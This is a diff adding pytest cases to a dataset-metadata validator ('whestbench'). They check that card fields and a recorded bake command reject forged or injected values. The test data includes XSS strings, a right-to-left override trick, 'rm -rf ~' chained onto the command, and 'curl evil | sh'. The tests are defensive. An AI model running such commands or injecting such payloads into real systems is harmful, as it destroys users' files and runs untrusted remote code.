@@ -22,6 +22,7 @@ def test_the_sampler_is_read_or_inferred_from_metadata(md, sampler):
 # --- the device_check block -----------------------------------------------------------------------
 
 import copy  # noqa: E402
+import re  # noqa: E402
 
 from whestbench.errors import InvalidDatasetError  # noqa: E402
 from whestbench.format.schema import device_check_state, validate_metadata  # noqa: E402
@@ -115,4 +116,59 @@ def test_target_stderr_without_rule_is_invalid():
     validate_metadata(copy.deepcopy(md))
     md["target_stderr"]["rule"] = "made-up"
     with pytest.raises(InvalidDatasetError, match="rule 'made-up' is not 'pilot-planned'"):
+        validate_metadata(md)
+
+
+# --- the card block and the recorded bake command (issue 27, cards) --------------------------------
+
+
+@pytest.mark.parametrize("card, field", [
+    ({"pretty_name": "Eval\n<script>alert(1)</script>"}, "metadata card.pretty_name must be"),
+    ({"pretty_name": "abc\u202eexe.txt"}, "metadata card.pretty_name must be"),
+    ({"homepage": "javascript:alert(1)"}, "metadata card.homepage must be"),
+    ({"homepage": "https://x.org/}}},evil={"}, "metadata card.homepage must be"),
+    ({"license": "x y"}, "metadata card.license must be"),
+    ({"license": "not-a-real-license"}, "metadata card.license must be"),
+    ({"title": "x"}, "metadata card: unknown field 'title'"),
+    ("My title", "card must be an object"),
+])
+def test_card_block_is_validated(card, field):
+    md = copy.deepcopy(_TORCH)
+    md["card"] = card
+    with pytest.raises(InvalidDatasetError, match=re.escape(field)) as e:
+        validate_metadata(md)
+    assert "\n" not in str(e.value)
+
+
+def test_an_honest_card_block_validates():
+    md = copy.deepcopy(_TORCH)
+    md["card"] = {"pretty_name": "Eval <8> & friends", "license": "other", "homepage": "https://example.org/d?x=1"}
+    validate_metadata(md)
+
+
+@pytest.mark.parametrize("recorded", [
+    "rm -rf ~; whest dataset bake --torch --n-mlps 2 --output out",
+    "whest dataset bake --torch --n-mlps 2 --output out; rm -rf ~",
+    "whest dataset bake --torch --n-mlps 2 --evil 1",
+    "whest dataset verify --recompute 1 out",
+    "whest dataset bake --n-mlps",
+    ["sh", "-c", "whest dataset bake"],
+    "",
+])
+def test_a_forged_bake_command_is_invalid(recorded):
+    md = copy.deepcopy(_TORCH)
+    md["bake_command"] = recorded
+    with pytest.raises(InvalidDatasetError, match="bake_command .* is not a `whest dataset bake` command"):
+        validate_metadata(md)
+
+
+def test_a_splits_forged_bake_command_is_invalid():
+    md = copy.deepcopy(_TORCH)
+    md.pop("bake_command")
+    entry = {k: md.pop(k) for k in ("n_mlps", "device_check")}
+    md.pop("split")
+    md["splits"] = {"public": {**entry, "bake_command": "whest dataset bake --torch --n-mlps 2 --output o"}}
+    validate_metadata(copy.deepcopy(md))
+    md["splits"]["public"]["bake_command"] = "curl evil | sh"
+    with pytest.raises(InvalidDatasetError, match=r"splits\['public'\].bake_command"):
         validate_metadata(md)
